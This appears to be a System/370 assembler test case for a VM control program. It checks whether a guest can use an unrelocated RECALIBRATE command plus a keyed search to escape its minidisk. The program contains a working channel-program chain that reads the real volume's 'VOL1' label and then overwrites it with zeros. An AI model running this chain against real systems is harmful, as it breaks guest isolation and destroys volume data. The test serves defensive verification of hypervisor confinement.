***********************************************************************
*  RECAL: RECALIBRATE, then a search and a read and a write.          *
*                                                                     *
*  The attack.  RECALIBRATE (X'13') takes the access arm to cylinder  *
*  0, head 0 of the real volume - it has no argument for a CP to      *
*  relocate.  A CP that knows only SEEK and SEARCH ID as positioning  *
*  commands lets it through as if it moved data.  On real cylinder 0  *
*  head 0 lie the IPL records and the volume label (key 'VOL1', data  *
*  'VOL1CPCMS1...').  A key search needs no cylinder number, so:      *
*     RECALIBRATE / SEARCH KEY EQUAL 'VOL1' / TIC / READ DATA         *
*  reads the label, and the same with WRITE DATA overwrites it.       *
*                                                                     *
*  A correct CP keeps RECALIBRATE on the minidisk (a seek to its      *
*  cylinder 0, head 0 - which has no keyed record: the search ends    *
*  with "no record found") or refuses it.                             *
*                                                                     *
*  X'600D': the label was not read; X'BAD1': it was.                  *
***********************************************************************
         COPY  GUEST
RECAL    START X'8000'
         BALR  R12,0
         USING *,R12
         LA    R1,READ
         BAL   R14,DOIO
         LA    R1,WRITE
         BAL   R14,DOIO
         LA    R3,MARKER
         L     R4,=A(BUF1)
         LA    R5,80
         BAL   R14,FIND
         BE    LEAKED
         LPSW  GOOD
LEAKED   LPSW  BAD1
READ     CCW   X'13',DUMMY,X'60',1         RECALIBRATE
         CCW   X'29',KEY,X'60',4           SEARCH KEY EQUAL 'VOL1'
         CCW   X'08',*-8,0,1               TIC back to the search
         CCW   X'06',BUF1,X'20',80         READ DATA
WRITE    CCW   X'13',DUMMY,X'60',1
         CCW   X'29',KEY,X'60',4
         CCW   X'08',*-8,0,1
         CCW   X'05',BUF3,X'20',80         WRITE DATA: zeros
DUMMY    DC    X'00'
KEY      DC    C'VOL1'
MARKER   DC    C'VOL1CPCM'                 the label's data
         COPY  DOIO
         END
